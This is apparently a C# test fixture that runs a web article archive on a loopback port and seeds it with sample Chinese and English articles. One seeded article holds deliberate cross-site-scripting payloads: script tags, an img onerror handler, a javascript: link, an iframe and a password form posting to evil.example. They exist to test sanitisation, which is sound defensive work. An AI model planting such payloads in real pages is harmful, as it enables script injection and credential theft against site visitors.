using System.Net;
using System.Text;
using Bot.Core;
using Bot.Core.Articles;
using Bot.Core.Parsing;
using Bot.Testing;
using Bot.Web.Endpoints;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace Bot.Web.Tests;

/// <summary>The web archive on a real loopback port over a real SQLite file, filled with a few articles (one of them hostile).</summary>
public sealed class WebArchiveServer : IAsyncDisposable
{
    public const string Backup = "备用频道 https://t.me/backup_channel";

    public const string HostileBody = """
        Harmless opening words about 平壤.

        <script>alert('body')</script>

        [click me](javascript:alert('link'))

        <img src="x" onerror="alert('img')">

        <iframe src="https://evil.example/frame"></iframe>

        <form action="https://evil.example/steal" method="post"><input name="password"></form>

        <a href="https://ok.example/page" onclick="steal()">a fine link</a>

        <p style="position:fixed;top:0">styled</p>

        ![remote](https://images.example/cat.png)
        """;

    private readonly WebApplication _app;

    private WebArchiveServer(WebApplication app, TempDatabase database, Uri baseUri)
    {
        _app = app;
        Database = database;
        BaseUri = baseUri;
        Http = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = baseUri };
    }

    public Uri BaseUri { get; }

    public HttpClient Http { get; }

    public TempDatabase Database { get; }

    public IServiceProvider Services => _app.Services;

    public Dictionary<string, long> Ids { get; } = [];

    public static async Task<WebArchiveServer> StartAsync(IDictionary<string, string?>? settings = null, bool seed = true)
    {
        var database = await TempDatabase.CreateAsync();
        var builder = WebApplication.CreateSlimBuilder();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        builder.WebHost.ConfigureKestrel(RequestLimits.Apply);
        builder.Logging.ClearProviders();
        var config = new Dictionary<string, string?>
        {
            ["Database:Path"] = database.Path,
            ["Bot:BackupLinks:0"] = Backup,
            ["Web:Title"] = "Test Archive",
            ["Web:PageSize"] = "5",
        };
        foreach (var (key, value) in settings ?? new Dictionary<string, string?>())
        {
            config[key] = value;
        }

        builder.Configuration.AddInMemoryCollection(config);
        builder.Services.AddBotCore(builder.Configuration);
        builder.Services.AddWebArchive(builder.Configuration);
        var app = builder.Build();
        app.MapWebArchive();
        await app.StartAsync();
        var address = app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First();
        var server = new WebArchiveServer(app, database, new Uri(address.TrimEnd('/') + "/"));
        if (seed)
        {
            await server.SeedAsync();
        }

        return server;
    }

    public async Task<long> ImportAsync(string file, string content)
    {
        var parsed = new ArticleParser().Parse(file, Encoding.UTF8.GetBytes(content));
        Assert.True(parsed.Succeeded, parsed.Error);
        var outcome = await Services.GetRequiredService<IArticleStore>().ImportAsync(parsed.Article!, CancellationToken.None);
        return outcome.ArticleId;
    }

    public async Task<(HttpStatusCode Status, string Body, HttpResponseMessage Response)> GetAsync(string path, string? acceptLanguage = null)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        if (acceptLanguage is not null)
        {
            request.Headers.TryAddWithoutValidation("Accept-Language", acceptLanguage);
        }

        var response = await Http.SendAsync(request);
        return (response.StatusCode, await response.Content.ReadAsStringAsync(), response);
    }

    public async ValueTask DisposeAsync()
    {
        Http.Dispose();
        await _app.StopAsync();
        await _app.DisposeAsync();
        await Database.DisposeAsync();
    }

    private async Task SeedAsync()
    {
        Ids["putin"] = await ImportAsync("putin.md", """
            ---
            title: 普京访问平壤
            author: 记者甲
            date: 2024-06-26 10:00:00 +08:00
            tags: [朝鲜, 俄罗斯]
            source_url: https://news.example/putin
            summary: 普京时隔二十四年再访朝鲜。
            ---

            普京访问朝鲜首都平壤，与金正恩会谈。这是一次**重要**的访问。

            ![现场](https://images.example/pyongyang.jpg)
            """);
        Ids["metoo"] = await ImportAsync("metoo.md", """
            ---
            title: The MeToo movement in China
            author: Reporter B
            date: 2023-01-05 09:00:00 +00:00
            tags: [MeToo, C#]
            ---

            The MeToo movement reached universities. A long word: Pneumonoultramicroscopicsilicovolcanoconiosis_and_a_very_long_url_https://example.org/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
            """);
        Ids["hostile"] = await ImportAsync("hostile.md", $"""
            ---
            title: "<script>alert('title')</script>Hostile <b>title</b>"
            date: 2024-06-01 08:00:00 +08:00
            tags: ["<img src=x onerror=alert(1)>"]
            ---

            {HostileBody}
            """);
        for (var i = 1; i <= 6; i++)
        {
            Ids["filler" + i] = await ImportAsync($"filler{i}.md", $"""
                ---
                title: 填充文章 {i}
                date: 2022-03-{i:D2} 12:00:00 +08:00
                tags: [填充]
                ---

                第 {i} 篇填充文章的正文，谈到朝鲜。
                """);
        }
    }
}
